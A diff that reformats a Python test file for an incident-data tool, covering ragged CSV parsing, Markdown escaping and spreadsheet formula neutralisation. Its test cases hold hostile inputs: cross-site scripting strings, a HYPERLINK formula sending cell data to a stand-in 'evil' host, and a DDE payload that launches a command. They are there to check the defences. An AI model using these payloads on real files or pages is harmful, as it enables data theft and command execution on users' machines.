@@ -46,8 +46,14 @@ def reasons(result) -> dict[int, str]:
 # ------------------------------------------------------------------------------------------------
 def test_out_of_range_dates_are_ledgered_not_raised(boundary, policy):
     r = incidents.load_incidents(HOSTILE / "bad_dates.csv", boundary, policy)
-    assert reasons(r) == {3: "time_out_of_range", 4: "time_out_of_range", 5: "time_out_of_range",
-                          6: "unparseable_time", 7: "implausible_response_time", 8: "unparseable_response_time"}
+    assert reasons(r) == {
+        3: "time_out_of_range",
+        4: "time_out_of_range",
+        5: "time_out_of_range",
+        6: "unparseable_time",
+        7: "implausible_response_time",
+        8: "unparseable_response_time",
+    }
     assert r.incidents["incident_id"].tolist() == ["D1"]
     s = r.summary
     assert s["input_rows"] == wc_l(HOSTILE / "bad_dates.csv") - 1 == 7
@@ -78,9 +84,14 @@ def test_ragged_file_is_read_and_every_record_accounted(boundary, policy):
     # row_number = file line (header = 1): blank lines 3, 6, 7 are counted; G5 spans lines 9-10
     assert reasons(r) == {4: "extra_fields", 8: "missing_coordinates", 11: "unparseable_response_time"}
     assert dict(zip(r.incidents["incident_id"], r.incidents["row_number"], strict=True)) == {
-        "G1": 2, "G3": 5, "G5\nsecond line": 9, "G7": 12}
+        "G1": 2,
+        "G3": 5,
+        "G5\nsecond line": 9,
+        "G7": 12,
+    }
     assert r.ledger.set_index("row_number").loc[4, "detail"] == (
-        "7 fields, the header has 6: check for an unquoted comma")
+        "7 fields, the header has 6: check for an unquoted comma"
+    )
     # wc -l is 12: minus the header, the 3 blank lines and the one continuation line = 7 records
     s = r.summary
     assert wc_l(path) == 12 and s["input_rows"] == 12 - 1 - 3 - 1 == 7
@@ -104,8 +115,8 @@ def test_input_count_is_the_readers_not_the_frames(monkeypatch, boundary):
 def test_csv_reader_keeps_text_and_flags_extras():
     t = read_csv_table(HOSTILE / "ragged.csv")
     assert t.lines.tolist() == [2, 4, 5, 8, 9, 11, 12]
-    assert t.extra.tolist() == [0, 1, 0, 0, 0, 0, 0]           # G3's trailing comma is not an extra field
-    assert t.frame.loc[3, "longitude"] == ""                   # short row padded
+    assert t.extra.tolist() == [0, 1, 0, 0, 0, 0, 0]  # G3's trailing comma is not an extra field
+    assert t.frame.loc[3, "longitude"] == ""  # short row padded
     assert t.frame.loc[5, "response_minutes"] == "10,5"
 
 
@@ -167,30 +178,33 @@ def test_points_written_back_are_unchanged_but_neutralised(tmp_path):
 # ------------------------------------------------------------------------------------------------
 def test_bases_keep_odd_names_and_drop_ragged_rows():
     gdf, issues = bases.read_bases_csv(HOSTILE / "bases_ragged.csv")
-    assert gdf["name"].tolist() == ["NaN", "NA", "Trailing"]   # names kept; the trailing comma is harmless
-    assert gdf["units"].tolist() == [2, 1, 1]                  # an empty units cell is the default
-    assert issues == [{"row": 4, "name": "Extra",
-                       "issue": "5 fields, the header has 4: check for an unquoted comma: dropped"}]
+    assert gdf["name"].tolist() == ["NaN", "NA", "Trailing"]  # names kept; the trailing comma is harmless
+    assert gdf["units"].tolist() == [2, 1, 1]  # an empty units cell is the default
+    assert issues == [
+        {"row": 4, "name": "Extra", "issue": "5 fields, the header has 4: check for an unquoted comma: dropped"}
+    ]
 
 
 def test_scenario_extra_field_is_refused_by_line_not_shifted():
     with pytest.raises(ScenarioError, match=r"line 2 has 5 fields but the header has 4"):
         read_scenario(HOSTILE / "scenario_extra.csv")
     table = read_scenario(HOSTILE / "scenario_trailing.csv")
-    assert table[["action", "name", "latitude", "longitude"]].values.tolist() == [
-        ["add", "Dunmow", "51.872", "0.365"]]
+    assert table[["action", "name", "latitude", "longitude"]].values.tolist() == [["add", "Dunmow", "51.872", "0.365"]]
 
 
 # ------------------------------------------------------------------------------------------------
 # Issue line 9: Markdown links and images do not render
 # ------------------------------------------------------------------------------------------------
-@pytest.mark.parametrize(("hostile", "escaped"), [
-    ("[x](javascript:alert(1))", "\\[x\\]\\(javascript:alert(1))"),
-    ("![](http://tracker/p.gif)", "!\\[\\]\\(http://tracker/p.gif)"),
-    ("<img src=x onerror=alert(1)>", "&lt;img src=x onerror=alert(1)&gt;"),
-    ("`code` *bold* _it_ pct_met", "\\`code\\` \\*bold\\* \\_it\\_ pct_met"),
-    ("a | b", "a \\| b"),
-])
+@pytest.mark.parametrize(
+    ("hostile", "escaped"),
+    [
+        ("[x](javascript:alert(1))", "\\[x\\]\\(javascript:alert(1))"),
+        ("![](http://tracker/p.gif)", "!\\[\\]\\(http://tracker/p.gif)"),
+        ("<img src=x onerror=alert(1)>", "&lt;img src=x onerror=alert(1)&gt;"),
+        ("`code` *bold* _it_ pct_met", "\\`code\\` \\*bold\\* \\_it\\_ pct_met"),
+        ("a | b", "a \\| b"),
+    ],
+)
 def test_markdown_escaping_defuses_links_images_and_html(hostile, escaped):
     assert md_escape(hostile) == escaped
     page = render_markdown([("h1", hostile), ("p", hostile), ("table", hostile, pd.DataFrame({hostile: [hostile]}))])
@@ -209,13 +223,21 @@ def test_incident_and_ledger_csvs_neutralise_formulas(tmp_path, boundary):
     before = src.read_bytes()
     r = incidents.load_incidents(src, boundary)
     report.write_incidents(r.incidents, tmp_path / "incidents.csv")
-    ledger = pd.DataFrame({"file": [str(src)], "row_number": [2], "incident_id": ["=1+1"], "status": ["rejected"],
-                           "reason": ["unknown_grade"], "detail": ["not a grade: =cmd"]})
+    ledger = pd.DataFrame(
+        {
+            "file": [str(src)],
+            "row_number": [2],
+            "incident_id": ["=1+1"],
+            "status": ["rejected"],
+            "reason": ["unknown_grade"],
+            "detail": ["not a grade: =cmd"],
+        }
+    )
     report.write_ledger(ledger, tmp_path / "ledger.csv")
     report.write_long(pd.DataFrame({"category": ["@SUM(A1)"], "met": [-1]}), tmp_path / "long.csv")
     with open(tmp_path / "incidents.csv", newline="") as f:
         rows = list(csv.DictReader(f))
-    assert [row["incident_id"] for row in rows] == ["'=HYPERLINK(\"http://evil/?x=\"&A1,\"click\")", "'+441234", "-0.5"]
+    assert [row["incident_id"] for row in rows] == ['\'=HYPERLINK("http://evil/?x="&A1,"click")', "'+441234", "-0.5"]
     assert [row["category"] for row in rows] == ["'=1+1", "'-1+cmd|' /C calc'!A0", "ok"]
     with open(tmp_path / "ledger.csv", newline="") as f:
         assert list(csv.reader(f))[1][1:] == ["2", "'=1+1", "rejected", "unknown_grade", "not a grade: =cmd"]
